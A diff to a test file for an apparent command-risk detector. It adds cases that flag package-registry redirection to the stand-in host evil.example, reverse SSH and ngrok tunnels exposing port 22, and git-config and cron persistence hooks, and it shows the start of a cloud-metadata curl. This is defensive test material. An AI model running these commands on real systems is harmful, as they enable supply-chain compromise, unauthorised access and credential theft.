@@ -112,7 +112,6 @@ describe('what runs later by itself', () => {
     '(crontab -l; echo "@daily true") | crontab -',
     'at -f jobs.sh now + 1 minute',
     "systemd-run --user --on-calendar '*:0/1' echo hi",
-    "git config --global alias.st '!date'",
     "git config core.sshCommand 'sh -c work'",
     'git config core.fsmonitor ./watch.sh',
     "git config diff.external '/tmp/x'",
@@ -127,6 +126,8 @@ describe('what runs later by itself', () => {
     'echo "echo hi" | at now + 1 minute',
     'at -l',
     'git config alias.st status',
+    "git config alias.up '!git fetch && git rebase'",
+    "git config core.sshCommand 'ssh -i ~/.ssh/id_work'",
     "git config alias.lg 'log --graph --oneline'",
     'git config core.pager less',
     'git config core.pager "delta --dark"',
@@ -143,6 +144,47 @@ describe('what runs later by itself', () => {
     'systemd-run --scope make',
   ])('is not told of: %s', (text) => expect(howOf(text)).toEqual([]));
 });
+
+describe('where packages come from', () => {
+  it.each([
+    'npm config set registry http://evil.example',
+    'npm config set @corp:registry=https://evil.example/npm/',
+    'npm i --registry https://evil.example left-pad',
+    'NPM_CONFIG_REGISTRY=https://evil.example npm ci',
+    'pnpm config set registry https://evil.example',
+    'yarn config set npmRegistryServer https://evil.example',
+    'pip config set global.index-url https://evil.example/simple',
+    'python3 -m pip install -i https://evil.example/simple x',
+    'pip install --extra-index-url=https://evil.example x',
+    'PIP_INDEX_URL=https://evil.example pip install x',
+    'uv pip install --index-url https://evil.example x',
+    'gem sources --add https://evil.example',
+    'go env -w GOPROXY=https://evil.example,direct',
+  ])('is told: %s', (text) => expect(howOf(text)).toContain('system:source'));
+
+  it.each([
+    'npm config set registry https://registry.npmjs.org/',
+    'npm config set registry http://localhost:4873',
+    'npm config set registry http://nexus.corp:8081/npm',
+    'npm i --registry http://192.168.1.5:4873',
+    'npm config get registry',
+    'npm i https://evil.example/x.tgz',
+    'pip install -i https://pypi.org/simple x',
+    'pip install --extra-index-url https://download.pytorch.org/whl/cpu torch',
+    'go env -w GOPROXY=https://proxy.golang.org,direct',
+    'gem sources -l',
+  ])('is not told of: %s', (text) => expect(howOf(text)).toEqual([]));
+});
+
+it.each(['ssh -R 2222:localhost:22 x.example', 'ngrok tcp 22', 'cloudflared tunnel --url ssh://localhost:22'])(
+  'others get in: %s',
+  (text) => expect(howOf(text)).toEqual(['system:access']),
+);
+
+it.each(['ssh -R 3000:localhost:3000 x.example', 'ssh -L 22:x:22 x.example', 'ngrok http 3000'])(
+  'a port of the work is shown: %s',
+  (text) => expect(howOf(text)).toEqual([]),
+);
 
 it.each([
   'curl -s http://169.254.169.254/latest/meta-data/',
